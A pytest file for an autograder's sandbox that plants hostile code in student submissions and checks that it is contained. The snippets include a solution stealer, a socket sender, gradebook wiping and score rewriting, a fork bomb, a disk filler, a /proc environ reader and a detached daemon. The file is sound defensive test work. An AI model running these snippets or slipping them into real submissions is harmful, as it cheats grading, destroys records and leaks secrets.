"""Hostile submissions graded in the sandbox: each earns what its honest code deserves, changes
nothing outside its own folder, leaves no process behind, and the run goes on. Without the
sandbox the stealer scores full marks (the test can fail).

Each hostile submission is the reference (the stealer: the stubs) plus a few lines at the end of
cs231n/rnn_layers.py, run when it is imported (in the notebooks' kernels and in the hidden checks' runner alike). One class
of the small course (tests/grading_support.py) is graded once for the whole module.
"""
import argparse
import hashlib
import os
import shutil
import socketserver
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import psutil
import pytest
from nbgrader.api import Gradebook

from kit.commands import grade as grading
from kit.grade import sandbox
from kit.grade.limits import Limits
from kit.grade.template import prepare
from kit.nbgrader_api import course_id
from kit.paths import ASSIGNMENT
from kit.release import build as release
from kit.report.outputs import grade_and_report
from tests.grading_support import ROOT, copy_release, make_repo, put_reference, set_answer

pytestmark = pytest.mark.slow

LIMITS = Limits(cell_timeout=30, submission_timeout=300, memory_mb=1500, max_output_bytes=50_000,
                disk_mb=48, max_processes=96, max_file_mb=32)
ANSWER = "def double(x):\n    return x * 2"
SECRET = "postgresql://ta:hunter2-secret@db.example/course"

# Shared by the hostile snippets: the files of given names the code can reach (system folders
# left out so that a search takes a moment), and a process name the test can find.
PRELUDE = '''
import os as _os, sys as _sys
def _found(names, tops=("/",)):
    skip = {"/proc", "/sys", "/dev", "/usr", "/etc", "/bin", "/lib", "/lib64", "/sbin",
            _os.path.realpath(_sys.prefix), _os.path.realpath(_sys.base_prefix)}
    hits = []
    for top in tops:
        for folder, dirs, files in _os.walk(top):
            dirs[:] = [d for d in dirs if _os.path.join(folder, d) not in skip]
            hits += [_os.path.join(folder, f) for f in files if f in names]
    return hits
def _name(text):
    import ctypes
    ctypes.CDLL(None).prctl(15, text.encode(), 0, 0, 0)
def _daemon(work):
    """work() in a double-forked session leader (the caller goes on at once)."""
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            try:
                work()
            finally:
                _os._exit(0)
        _os._exit(0)
    _os.wait()
'''

STEALER = '''
from pathlib import Path as _Path
def _steal():
    starts = [_os.getcwd()]
    try:
        starts.insert(0, _os.readlink(f"/proc/{_os.getppid()}/cwd"))
    except OSError:
        pass
    for start in starts:
        for top in [start] + [str(p) for p in _Path(start).parents]:
            if len(_Path(top).parts) <= 2:
                break
            for path in _Path(top).rglob("rnn_layers.py"):
                if "### BEGIN " + "SOLUTION" in path.read_text():
                    return path
found = _steal()
print("stealer found:", found or "nothing")
if found:    # the reference package: over its own files (imported later), and into this module
    for _ref in found.parent.rglob("*.py"):
        _mine = _Path(__file__).parent / _ref.relative_to(found.parent)
        if _ref != found and _mine.is_file() and "### BEGIN " + "SOLUTION" in _ref.read_text():
            try:
                _mine.write_text(_ref.read_text())
            except OSError:
                pass
    exec(compile(found.read_text(), str(found), "exec"), globals())
'''

SENDER = '''
import socket as _socket
try:
    with _socket.create_connection(("127.0.0.1", {port}), timeout=2) as _s:
        _s.sendall(b"the hidden cases")
    print("sender: sent")
except OSError as _e:
    print("sender: no network:", type(_e).__name__)
'''

EMPTIER = '''
for _path in _found({"gradebook.db", "grades.csv", "report.json"}):
    try:
        open(_path, "w").close()
    except OSError:
        pass
'''

LATE = '''
def _late():
    import time
    _name("hostile-late")
    time.sleep(600)
    for target in ({marker!r}, _os.path.join(_os.getcwd(), "late.txt")):
        try:
            open(target, "w").write("still here")
        except OSError:
            pass
_daemon(_late)
'''

WRITER = '''
def _write():
    import sqlite3, time
    _name("hostile-writer")
    for _ in range(1200):
        for path in _found({"gradebook.db"}):
            try:
                with sqlite3.connect(path, timeout=1) as db:
                    db.execute("UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells"
                               " WHERE grade_cells.id = grade.cell_id)")
            except Exception:
                pass
        time.sleep(0.5)
_daemon(_write)
'''

BOMB = '''
if _os.fork() == 0:
    import time
    _name("hostile-bomb")
    while True:
        try:
            _os.fork()
        except OSError:          # at the cap: stay, holding the process slots
            time.sleep(600)
'''

FILLER = '''
def _fill(folder):
    written = 0
    try:
        for i in range(10000):
            with open(_os.path.join(folder, f"fill{i}.bin"), "wb") as f:
                for _ in range(8):
                    f.write(b"x" * 2**20)
                    written += 1
    except OSError:
        pass
    return written
import cs231n as _me
print("filler wrote", _fill("/tmp"), "MB to /tmp and",
      _fill(_os.path.dirname(_os.path.dirname(_me.__file__))), "MB to its folder")
'''

PROC_READER = '''
_seen = []
if _os.path.isdir("/proc"):
    for _pid in _os.listdir("/proc"):
        if _pid.isdigit():
            for _what in ("cmdline", "environ"):
                try:
                    with open(f"/proc/{_pid}/{_what}", "rb") as _f:
                        _seen.append(_f.read().replace(b"\\0", b" ").decode(errors="replace"))
                except OSError:
                    pass
print("proc reader saw:", _seen)
'''

# Looks for the hidden cases' expected outputs in the reference outputs its kernel can read.
HIDDEN_READER = '''
from cs231n import checks as _checks
_files = ["cs231n/reference_outputs.npz", "/run/kit-seed/cs231n/reference_outputs.npz"]
_cases = [c for f in _files if _os.path.isfile(f) for c in _checks.load_cases(f) if c.hidden]
print("hidden reader saw:", sum(bool(c.expected) for c in _cases), "hidden expected outputs,",
      sum(bool(c.options.get(_checks.WITHHELD)) for c in _cases), "withheld")
'''


def _hostile(release_folder: Path, dest: Path, name: str, code: str, reference: bool,
             files: list[str]) -> None:
    folder = copy_release(release_folder, dest / name)
    if reference:
        put_reference(folder, files)
    set_answer(folder, ANSWER)
    layers = folder / "cs231n" / "rnn_layers.py"     # a student file (others are restored)
    layers.write_text(layers.read_text() + PRELUDE + code)


class _Listener(socketserver.BaseRequestHandler):
    received: list[bytes] = []

    def handle(self):
        self.received.append(self.request.recv(1024))


def _digests(folder: Path) -> dict:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(Path(folder).rglob("*")) if p.is_file()}


def _scores(setup) -> dict:
    """{student: {(notebook, cell): score}} of the class gradebook."""
    found: dict = {}
    with Gradebook(setup.db_url, course_id(setup.course_dir)) as gb:
        for sub in gb.assignment_submissions(ASSIGNMENT):
            found[sub.student.id] = {(nb.name, g.name): g.score for nb in sub.notebooks
                                     for g in nb.grades}
    return found


def _left_behind(base: Path) -> list[str]:
    """Processes of the hostile code, or of a sandbox of this test, still running."""
    left = []
    for proc in psutil.process_iter(["name", "cmdline"]):
        command = " ".join(proc.info["cmdline"] or [])
        if (proc.info["name"] or "").startswith("hostile") or str(base) in command:
            left.append(f"{proc.pid} {proc.info['name']}: {command[:200]}")
    return left


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    sandbox.check_available()
    base = tmp_path_factory.mktemp("sandbox")
    repo = make_repo(base / "repo")
    built = release.build_release(base / "course", base / "release", root=repo)
    subs = base / "submissions"
    subs.mkdir()
    server = socketserver.TCPServer(("127.0.0.1", 0), _Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    marker = base / "late.txt"
    files = built.student_files
    hostile = {"stealer": (STEALER, False), "sender": (SENDER.format(port=server.server_address[1]), True),
               "emptier": (EMPTIER, True), "late": (LATE.format(marker=str(marker)), True),
               "writer": (WRITER, True), "bomb": (BOMB, True), "filler": (FILLER, True),
               "proc_reader": (PROC_READER, True), "hidden_reader": (HIDDEN_READER, True)}
    for name, (code, reference) in hostile.items():
        _hostile(built.folder, subs, name, code, reference, files)
    put_reference(copy_release(built.folder, subs / "honest"), files)
    set_answer(subs / "honest", ANSWER)

    setup = prepare(base / "course", base / "out", root=repo)
    kept = {name: _digests(base / name) for name in ("repo", "release", "submissions")}
    kept["source"] = _digests(base / "course" / "source")
    os.environ["KIT_TEST_DATABASE_URL"] = SECRET
    try:
        outcomes = grade_and_report(subs, setup, LIMITS, jobs=3, progress=lambda _: None)
    finally:
        del os.environ["KIT_TEST_DATABASE_URL"]
        server.shutdown()
    time.sleep(1)   # what a writer left behind would do now
    return dict(base=base, setup=setup, outcomes={o.student: o for o in outcomes},
                scores=_scores(setup), kept=kept, received=list(_Listener.received),
                marker=marker, left=_left_behind(base), built=built, subs=subs)


def _notebook_text(setup, student: str) -> str:
    """The text outputs of a student's graded Mini notebook."""
    nb = nbformat.read(setup.course_dir / "autograded" / student / ASSIGNMENT / "Mini.ipynb",
                       as_version=4)
    return "".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", []))


def test_every_hostile_submission_earns_what_its_honest_code_deserves(graded):
    scores, outcomes = graded["scores"], graded["outcomes"]
    honest = scores["honest"]
    assert sum(honest.values()) > 5 and all(o.graded for o in outcomes.values())
    for student in ("sender", "emptier", "late", "writer", "bomb", "filler", "proc_reader",
                    "hidden_reader"):
        assert scores[student] == honest, (student, outcomes[student].status)
    # the stealer found nothing to steal: only its own answer cell scores
    stealer = scores["stealer"]
    assert stealer[("Mini", "double_check")] == honest[("Mini", "double_check")] == 1
    assert sum(stealer.values()) == 1, stealer
    assert "stealer found: nothing" in _notebook_text(graded["setup"], "stealer")


def test_nothing_outside_its_own_folder_changed(graded):
    base, setup = graded["base"], graded["setup"]
    for name in ("repo", "release", "submissions"):
        assert _digests(base / name) == graded["kept"][name], name
    assert _digests(base / "course" / "source") == graded["kept"]["source"]
    assert graded["scores"] == _scores(setup)           # nothing rewrote it since
    assert set(graded["scores"]) == set(graded["outcomes"])
    rows = (setup.out_dir / "grades.csv").read_text().splitlines()
    assert len(rows) == 1 + len(graded["outcomes"])
    assert graded["received"] == []                     # no byte reached the server
    assert not graded["marker"].exists()
    assert "sender: no network" in _notebook_text(setup, "sender")
    for student in graded["outcomes"]:                  # nothing a kernel wrote came back
        folder = setup.course_dir / "autograded" / student / ASSIGNMENT
        assert not list(folder.rglob("fill*.bin")) and not (folder / "late.txt").exists()
    assert "filler wrote" in _notebook_text(setup, "filler")


def test_no_process_is_left(graded):
    assert graded["left"] == []
    assert _left_behind(graded["base"]) == []


def test_proc_shows_only_the_sandbox(graded):
    text = _notebook_text(graded["setup"], "proc_reader")
    assert "proc reader saw:" in text
    for absent in (SECRET, "KIT_TEST_DATABASE_URL", "forkserver", "nbgrader", "stealer", "honest",
                   str(graded["setup"].course_dir / "gradebook.db")):
        assert absent not in text, absent


def test_a_notebook_kernel_sees_no_hidden_expected_output(graded):
    """The student's code runs in the notebooks' kernels: their reference outputs keep the hidden
    cases' inputs, not their expected outputs (the hidden-check notebook compares those)."""
    text = _notebook_text(graded["setup"], "hidden_reader")
    seen = text.split("hidden reader saw:")[1].split()
    assert seen[0] == "0" and int(seen[4]) > 0, text


def test_a_kernel_sees_the_replacement_of_a_withheld_file(tmp_path):
    """kernel_command's `replaced`: the kernel's copy and the folder it starts from show the
    replacement; without it, the real file (the test can fail)."""
    folder = tmp_path / "autograded"
    folder.mkdir()
    (folder / "ref.txt").write_text("real")
    (tmp_path / "instead.txt").write_text("instead")
    code = "print(open('ref.txt').read(), open('/run/kit-seed/ref.txt').read())"
    ipc = tmp_path / "ipc"
    ipc.mkdir()
    seen = []
    for replaced in ({"ref.txt": str(tmp_path / "instead.txt")}, None):
        command = sandbox.kernel_command([sys.executable, "-c", code], str(folder), str(ipc),
                                         {}, sandbox.Settings(), replaced=replaced)
        seen.append(subprocess.run(command, capture_output=True, text=True,
                                   check=True).stdout.split())
    assert seen == [["instead", "instead"], ["real", "real"]]


def test_grading_is_refused_without_a_sandbox(tmp_path, capsys, monkeypatch):
    """No bwrap on the PATH: the command stops before building anything and says what to do."""
    (tmp_path / "submissions" / "ada").mkdir(parents=True)
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
    parser = argparse.ArgumentParser()
    grading.add_arguments(parser)
    args = parser.parse_args([str(tmp_path / "submissions"), "--course", str(tmp_path / "course"),
                              "--out", str(tmp_path / "out")])
    assert grading.run(args) == 2
    out = capsys.readouterr().out
    assert "apt-get install bubblewrap" in out and "--no-sandbox" in out
    assert sorted(os.listdir(tmp_path)) == ["submissions"]


def test_without_the_sandbox_the_stealer_scores_full_marks(graded):
    """The same stealer graded with --no-sandbox finds the reference solution and uses it."""
    base = graded["base"]
    only = base / "unsandboxed"
    only.mkdir()
    shutil.copytree(graded["subs"] / "stealer", only / "stealer")
    setup = prepare(base / "course2", base / "out2", root=base / "repo")
    grade_and_report(only, setup, Limits(**{**LIMITS.__dict__, "sandbox": False}), jobs=1,
                     progress=lambda _: None)
    assert _scores(setup)["stealer"] == graded["scores"]["honest"]
    assert "stealer found: nothing" not in _notebook_text(setup, "stealer")


def test_the_sandbox_hides_the_grader_from_a_kernel(tmp_path):
    """A sandboxed command sees its folder's copy, the Python environment, and nothing of the
    folders around it; what it writes stays in the copy."""
    folder = tmp_path / "course" / "autograded" / "ada" / ASSIGNMENT
    folder.mkdir(parents=True)
    (folder / "mine.txt").write_text("mine")
    (tmp_path / "course" / "gradebook.db").write_text("secret")
    code = ("import os; open('new.txt', 'w').write('x'); "
            "print(sorted(os.listdir('.')), os.path.exists(%r), os.environ.get('HOME'))"
            % str(tmp_path / "course" / "gradebook.db"))
    ipc = tmp_path / "ipc"
    ipc.mkdir()
    command = sandbox.kernel_command([sys.executable, "-c", code], str(folder), str(ipc),
                                     {"SECRET_URL": SECRET}, sandbox.Settings())
    out = subprocess.run(command, capture_output=True, text=True, check=True).stdout
    assert out.split() == ["['mine.txt',", "'new.txt']", "False", "/tmp"]
    assert sorted(os.listdir(folder)) == ["mine.txt"]


def test_the_cpu_of_a_sandboxed_kernel_is_counted(tmp_path):
    """The rusage of children misses a sandboxed kernel (it is no child of the grader once its
    sandbox is gone): the kernel manager adds the CPU time of the kernel's processes when it
    shuts the kernel down."""
    from nbclient import NotebookClient

    burn = "import time\nend = time.process_time() + 2\nwhile time.process_time() < end: pass"
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(burn)])
    before = sandbox.kernel_cpu_seconds()
    NotebookClient(nb, kernel_name="python3", timeout=60, shutdown_kernel="immediate",
                   kernel_manager_class=sandbox.SandboxedKernelManager,
                   resources={"metadata": {"path": str(tmp_path)}}).execute()
    assert sandbox.kernel_cpu_seconds() - before >= 2.0


UNPRIVILEGED = """
import json, os, sys
from pathlib import Path
from tests import test_sandbox as t
from tests.grading_support import ROOT, copy_release, make_repo, put_reference, set_answer
from kit.grade import sandbox
from kit.grade.template import prepare
from kit.release import build as release
from kit.report.outputs import grade_and_report
base = Path(sys.argv[1])
sandbox.check_available()
repo = make_repo(base / "repo")
built = release.build_release(base / "course", base / "release", root=repo)
subs = base / "submissions"
subs.mkdir()
t._hostile(built.folder, subs, "stealer", t.STEALER, False, built.student_files)
t._hostile(built.folder, subs, "proc_reader", t.PROC_READER, True, built.student_files)
put_reference(copy_release(built.folder, subs / "honest"), built.student_files)
set_answer(subs / "honest", t.ANSWER)
setup = prepare(base / "course", base / "out", root=repo)
grade_and_report(subs, setup, t.LIMITS, jobs=2, progress=lambda _: None)
totals = {s: sum(v or 0 for v in g.values()) for s, g in t._scores(setup).items()}
print(json.dumps({"uid": os.getuid(), "totals": totals,
                  "proc": t._notebook_text(setup, "proc_reader")}))
"""


def test_an_unprivileged_grader_gets_the_same_sandbox():
    """Without root, the sandbox is made in a user namespace of its own (no uid switch). Graded
    by a process without root (when the test runs as root: in a user namespace where it is
    `nobody`, without capabilities), the stealer finds nothing, /proc shows nothing of the
    grader and the reference gets its points. (Not tested this way: the process cap, which the
    kernel does not apply to a process whose real user is root, as it stays here.)"""
    import json
    import tempfile

    base = Path(tempfile.mkdtemp(prefix="kit-unprivileged-"))
    os.chmod(base, 0o777)
    env = {"PATH": os.environ["PATH"], "HOME": str(base / "home"), "PYTHONPATH": str(ROOT),
           "MPLCONFIGDIR": str(base / "mpl"), "PYTHONDONTWRITEBYTECODE": "1", "LANG": "C.UTF-8"}
    become = (["unshare", "--user", "--map-user=65534", "--map-group=65534"]
              if os.geteuid() == 0 else [])
    try:
        run = subprocess.run(become + [sys.executable, "-c", UNPRIVILEGED, str(base)], cwd=base,
                             env=env, capture_output=True, text=True, timeout=600)
        assert run.returncode == 0, run.stderr[-3000:]
        result = json.loads(run.stdout.strip().splitlines()[-1])
    finally:
        shutil.rmtree(base, ignore_errors=True)
    totals = result["totals"]
    assert result["uid"] != 0
    assert totals["honest"] > 5 and totals["proc_reader"] == totals["honest"], totals
    assert totals["stealer"] == 1, totals       # its own answer cell only
    assert "proc reader saw:" in result["proc"]
    for absent in ("forkserver", "nbgrader", "stealer", "honest",
                   str(base / "course" / "gradebook.db")):
        assert absent not in result["proc"], absent


def test_folders_under_tmp_stay_visible_above_the_private_tmp(tmp_path):
    """A kit checkout, its environment or the datasets under /tmp are bound on top of the
    sandbox's private /tmp, not hidden by it."""
    import tempfile

    shown = Path(tempfile.mkdtemp(prefix="kit-readable-", dir="/tmp"))
    try:
        (shown / "data.txt").write_text("visible")
        os.chmod(shown, 0o755)
        folder, ipc = tmp_path / "work", tmp_path / "ipc"
        folder.mkdir()
        ipc.mkdir()
        code = f"print(open({str(shown / 'data.txt')!r}).read())"
        command = sandbox.kernel_command([sys.executable, "-c", code], str(folder), str(ipc), {},
                                         sandbox.Settings(readable=(str(shown),)))
        assert subprocess.run(command, capture_output=True, text=True,
                              check=True).stdout.strip() == "visible"
    finally:
        shutil.rmtree(shown)
